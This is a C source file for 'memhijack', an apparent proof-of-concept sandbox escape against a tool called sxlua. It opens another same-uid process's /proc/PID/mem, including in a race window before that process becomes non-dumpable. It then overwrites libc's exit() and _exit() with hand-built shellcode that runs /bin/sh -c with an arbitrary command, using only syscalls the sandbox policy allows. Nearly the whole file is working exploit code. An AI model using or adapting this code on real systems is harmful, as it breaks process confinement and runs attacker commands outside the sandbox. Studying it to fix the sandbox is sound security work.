/* memhijack: a workload run with --no-pid-namespace (so in the host's user namespace, as
** its own uid) writes code into another process of the same uid through /proc/PID/mem, and
** that process, which no filter confines, runs it.
**
**   memhijack --parent CMD     the process that started sxlua (say the job's shell): CMD
**                              runs when that process calls exit()
**   memhijack --watch CMD      wait for the next sxlua of our uid to start, and open its
**                              /proc/PID/mem in the moment between its exec and its first
**                              spawn, while it is still dumpable; the descriptor stays good
**                              after sxlua makes itself non-dumpable. CMD runs when that
**                              sxlua calls exit(), after its own workload ended.
**   memhijack --pid PID CMD    any process of our uid by its host pid (works from inside the
**                              default PID namespace too: /proc is the host's)
**
** The code is written over libc's exit() and _exit() in the target (FOLL_FORCE writes through /proc/PID/mem
** reach read-only text, copy-on-write), found from the target's /proc/PID/maps and our own
** libc (the same file). Only openat, getdents64, read, pread64, lseek, write and close are
** needed: policies/minimal.lua allows them all. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static uintptr_t libc_base(const char *maps_path, int fd_in) {
  static char text[1 << 16];
  int fd = fd_in >= 0 ? fd_in : open(maps_path, O_RDONLY);
  ssize_t n, got = 0;
  char *line;
  if (fd < 0) return 0;
  if (fd_in >= 0) lseek(fd, 0, SEEK_SET);
  while ((n = read(fd, text + got, sizeof text - 1 - (size_t)got)) > 0) got += n;
  if (fd_in < 0) close(fd);
  text[got] = 0;
  for (line = strtok(text, "\n"); line; line = strtok(NULL, "\n")) {
    unsigned long lo, off;
    if (strstr(line, "/libc.so.6") && sscanf(line, "%lx-%*x %*s %lx", &lo, &off) == 2 && off == 0)
      return lo;
  }
  return 0;
}

/* mov rdi, path; mov rsi, argv; xor edx, edx; mov eax, 59; syscall; then path, "-c", CMD, argv */
static size_t shellcode(unsigned char *out, uintptr_t at, const char *cmd) {
  size_t code = 10 + 10 + 2 + 5 + 2, n = code;
  uintptr_t path, dashc, c, argv;
  path = at + n; memcpy(out + n, "/bin/sh", 8); n += 8;
  dashc = at + n; memcpy(out + n, "-c", 3); n += 3;
  c = at + n; memcpy(out + n, cmd, strlen(cmd) + 1); n += strlen(cmd) + 1;
  n = (n + 7) & ~(size_t)7;
  argv = at + n;
  memcpy(out + n, &path, 8); memcpy(out + n + 8, &dashc, 8); memcpy(out + n + 16, &c, 8);
  memset(out + n + 24, 0, 8);
  n += 32;
  out[0] = 0x48; out[1] = 0xbf; memcpy(out + 2, &path, 8);
  out[10] = 0x48; out[11] = 0xbe; memcpy(out + 12, &argv, 8);
  out[20] = 0x31; out[21] = 0xd2;
  out[22] = 0xb8; out[23] = 59; out[24] = out[25] = out[26] = 0;
  out[27] = 0x0f; out[28] = 0x05;
  return n;
}

static int patch(int memfd, uintptr_t target_libc, const char *cmd) {
  static const char *const names[] = { "exit", "_exit" };   /* sh ends with _exit */
  uintptr_t mine = libc_base("/proc/self/maps", -1);
  for (int i = 0; i < 2; i++) {
    uintptr_t at = (uintptr_t)dlsym(RTLD_DEFAULT, names[i]) - mine + target_libc;
    unsigned char code[4096];
    size_t n = shellcode(code, at, cmd);
    if (lseek(memfd, (off_t)at, SEEK_SET) == (off_t)-1) return -errno;
    if (write(memfd, code, n) != (ssize_t)n) return -errno;
    fprintf(stderr, "memhijack: wrote %zu bytes over %s() at 0x%lx\n", n, names[i], (unsigned long)at);
  }
  return 0;
}

static long ppid_of(long pid) {
  char path[64], buf[512];
  int fd;
  ssize_t n;
  char *p;
  if (pid) snprintf(path, sizeof path, "/proc/%ld/stat", pid); else snprintf(path, sizeof path, "/proc/self/stat");
  if ((fd = open(path, O_RDONLY)) < 0) return -1;
  n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return -1;
  buf[n] = 0;
  if (!(p = strrchr(buf, ')'))) return -1;
  return strtol(p + 4, NULL, 10);
}

int main(int argc, char **argv) {
  char path[64];
  if (argc < 3) return 2;
  if (!strcmp(argv[1], "--parent")) {
    long sxlua = ppid_of(0), target = ppid_of(sxlua);   /* no getppid: minimal.lua kills it */
    int memfd;
    snprintf(path, sizeof path, "/proc/%ld/mem", target);
    memfd = open(path, O_RDWR);
    if (memfd < 0) { fprintf(stderr, "memhijack: %s: %s\n", path, strerror(errno)); return 1; }
    snprintf(path, sizeof path, "/proc/%ld/maps", target);
    return patch(memfd, libc_base(path, -1), argv[2]) == 0 ? 0 : 1;
  }
  if (!strcmp(argv[1], "--pid") && argc > 3) {
    int memfd;
    snprintf(path, sizeof path, "/proc/%s/mem", argv[2]);
    memfd = open(path, O_RDWR);
    if (memfd < 0) { fprintf(stderr, "memhijack: %s: %s\n", path, strerror(errno)); return 1; }
    snprintf(path, sizeof path, "/proc/%s/maps", argv[2]);
    return patch(memfd, libc_base(path, -1), argv[3]) == 0 ? 0 : 1;
  }
  if (!strcmp(argv[1], "--watch")) {
    struct stat self;
    uid_t me = stat("/proc/self", &self) == 0 ? self.st_uid : 0;   /* no getuid: minimal.lua */
    char seen[65536] = { 0 };
    for (;;) {
      DIR *d = opendir("/proc");
      struct dirent *e;
      if (!d) return 1;
      while ((e = readdir(d))) {
        long pid = strtol(e->d_name, NULL, 10);
        char comm[32] = "";
        int fd, memfd, mapsfd;
        ssize_t n;
        struct stat st;
        uintptr_t base = 0;
        if (pid <= 0 || pid >= 65536 || seen[pid] || 0) continue;
        snprintf(path, sizeof path, "/proc/%ld/comm", pid);
        if ((fd = open(path, O_RDONLY)) < 0) continue;
        n = read(fd, comm, sizeof comm - 1);
        close(fd);
        if (n <= 0 || strncmp(comm, "sxlua", 5) != 0) continue;   /* (may still be its launcher) */
        seen[pid] = 1;
        snprintf(path, sizeof path, "/proc/%ld", pid);
        if (stat(path, &st) != 0 || st.st_uid != me) continue;
        snprintf(path, sizeof path, "/proc/%ld/mem", pid);
        memfd = open(path, O_RDWR);
        snprintf(path, sizeof path, "/proc/%ld/maps", pid);
        mapsfd = open(path, O_RDONLY);
        if (memfd < 0 || mapsfd < 0) {
          fprintf(stderr, "memhijack: sxlua %ld: too late (%s)\n", pid, strerror(errno));
          continue;
        }
        fprintf(stderr, "memhijack: sxlua %ld: /proc/%ld/mem open for writing\n", pid, pid);
        for (int i = 0; i < 1000000 && !(base = libc_base(NULL, mapsfd)); i++) {}
        if (!base || patch(memfd, base, argv[2]) != 0) { fprintf(stderr, "memhijack: patch failed\n"); continue; }
        closedir(d);
        return 0;
      }
      closedir(d);
    }
  }
  return 2;
}
